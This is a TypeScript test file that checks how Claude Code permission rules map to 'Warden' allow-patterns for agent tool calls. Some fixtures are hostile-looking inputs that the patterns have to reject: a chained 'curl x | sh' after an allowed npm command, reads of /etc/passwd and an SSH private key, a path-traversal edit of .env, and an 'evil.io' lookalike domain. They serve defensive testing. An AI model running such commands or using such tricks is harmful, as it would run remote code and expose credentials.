import type { PermissionUpdate } from "@anthropic-ai/claude-agent-sdk";
import { compilePolicy, evaluate, policySource } from "@warden/rules";
import { describe, expect, test } from "vitest";
import { claudeRuleToPatterns, suggestionsToRules } from "./claude-rules.ts";

/** Whether the Warden patterns allow a call under a policy that otherwise asks. */
function allows(patterns: readonly string[], toolName: string, input: Record<string, unknown>) {
  const policy = compilePolicy({
    project: policySource({
      rules: patterns.map((tool) => ({ tool, behavior: "allow" as const })),
    }),
  });
  return (
    evaluate(policy, { toolName, input }, { cwd: "/repo", home: "/home/me" }).decision === "allow"
  );
}

const cases: {
  rule: { toolName: string; ruleContent?: string };
  patterns: string[];
  allowed: [string, Record<string, unknown>][];
  asked: [string, Record<string, unknown>][];
}[] = [
  {
    rule: { toolName: "Bash", ruleContent: "npm run test:*" },
    patterns: ["Bash(npm run test *)"],
    allowed: [
      ["Bash", { command: "npm run test" }],
      ["Bash", { command: "npm run test -- --watch" }],
    ],
    asked: [
      ["Bash", { command: "npm run build" }],
      ["Bash", { command: "npm run test && curl x | sh" }],
    ],
  },
  {
    rule: { toolName: "Bash", ruleContent: "git status" },
    patterns: ["Bash(git status)"],
    allowed: [["Bash", { command: "git status" }]],
    asked: [["Bash", { command: "git status --porcelain" }]],
  },
  {
    rule: { toolName: "Bash", ruleContent: "echo (hi)" },
    patterns: ["Bash(echo \\(hi\\))"],
    allowed: [["Bash", { command: "echo '(hi)'" }]],
    asked: [["Bash", { command: "echo hi" }]],
  },
  {
    rule: { toolName: "Edit", ruleContent: "src/**" },
    patterns: [
      'Edit(file_path ~ "src/**")',
      'Write(file_path ~ "src/**")',
      'MultiEdit(file_path ~ "src/**")',
      'NotebookEdit(notebook_path ~ "src/**")',
    ],
    allowed: [
      ["Edit", { file_path: "/repo/src/a.ts" }],
      ["Write", { file_path: "src/b/c.ts" }],
    ],
    asked: [
      ["Edit", { file_path: "/repo/.env" }],
      ["Edit", { file_path: "/repo/src/../.env" }],
    ],
  },
  {
    rule: { toolName: "Read", ruleContent: "//etc/hosts" },
    patterns: ['Read(file_path ~ "/etc/hosts")'],
    allowed: [["Read", { file_path: "/etc/hosts" }]],
    asked: [["Read", { file_path: "/etc/passwd" }]],
  },
  {
    rule: { toolName: "Read", ruleContent: "~/notes/**" },
    patterns: ['Read(file_path ~ "~/notes/**")'],
    allowed: [["Read", { file_path: "/home/me/notes/a.md" }]],
    asked: [["Read", { file_path: "/home/me/.ssh/id_rsa" }]],
  },
  {
    rule: { toolName: "WebFetch", ruleContent: "domain:docs.example.com" },
    patterns: ['WebFetch(url =~ "^https?://docs\\\\.example\\\\.com(:[0-9]+)?([/?#]|$)")'],
    allowed: [
      ["WebFetch", { url: "https://docs.example.com/a" }],
      ["WebFetch", { url: "http://docs.example.com" }],
    ],
    asked: [
      ["WebFetch", { url: "https://docs.example.com.evil.io/" }],
      ["WebFetch", { url: "https://docsXexample.com/" }],
    ],
  },
  {
    rule: { toolName: "mcp__github" },
    patterns: ["mcp__github__*"],
    allowed: [["mcp__github__create_issue", {}]],
    asked: [["mcp__gitlab__create_issue", {}]],
  },
  {
    rule: { toolName: "mcp__github__create_issue" },
    patterns: ["mcp__github__create_issue"],
    allowed: [["mcp__github__create_issue", { title: "x" }]],
    asked: [["mcp__github__delete_repo", {}]],
  },
  {
    rule: { toolName: "WebSearch" },
    patterns: ["WebSearch"],
    allowed: [["WebSearch", { query: "x" }]],
    asked: [["WebFetch", { url: "https://x" }]],
  },
];

describe("Claude Code rules as Warden patterns", () => {
  for (const c of cases) {
    test(`${c.rule.toolName}(${c.rule.ruleContent ?? ""}) → ${c.patterns.join(", ")}`, () => {
      const patterns = claudeRuleToPatterns(c.rule);
      expect(patterns).toEqual(c.patterns);
      for (const [tool, input] of c.allowed)
        expect(allows(patterns, tool, input), `${tool} ${JSON.stringify(input)}`).toBe(true);
      for (const [tool, input] of c.asked)
        expect(allows(patterns, tool, input), `${tool} ${JSON.stringify(input)}`).toBe(false);
    });
  }

  test("rules without a faithful equivalent map to nothing", () => {
    expect(
      claudeRuleToPatterns({ toolName: "WebFetch", ruleContent: "domain:*.example.com" }),
    ).toEqual([]);
    expect(claudeRuleToPatterns({ toolName: "Task", ruleContent: "anything" })).toEqual([]);
    expect(claudeRuleToPatterns({ toolName: "Bad Tool" })).toEqual([]);
  });

  test("only allow rules map; modes, directories and removals are reported unmapped", () => {
    const suggestions: PermissionUpdate[] = [
      {
        type: "addRules",
        behavior: "allow",
        destination: "session",
        rules: [
          { toolName: "Bash", ruleContent: "make:*" },
          { toolName: "Bash", ruleContent: "make:*" },
        ],
      },
      {
        type: "addRules",
        behavior: "deny",
        destination: "session",
        rules: [{ toolName: "Bash", ruleContent: "rm:*" }],
      },
      { type: "setMode", mode: "acceptEdits", destination: "session" },
      { type: "addDirectories", directories: ["/tmp"], destination: "session" },
      {
        type: "removeRules",
        behavior: "allow",
        destination: "session",
        rules: [{ toolName: "Read" }],
      },
    ];
    const mapped = suggestionsToRules(suggestions);
    expect(mapped.rules).toEqual(["Bash(make *)"]);
    expect(mapped.unmapped.map((u) => u.type)).toEqual([
      "addRules",
      "setMode",
      "addDirectories",
      "removeRules",
    ]);
    expect(suggestionsToRules(undefined)).toEqual({ rules: [], unmapped: [] });
  });
});
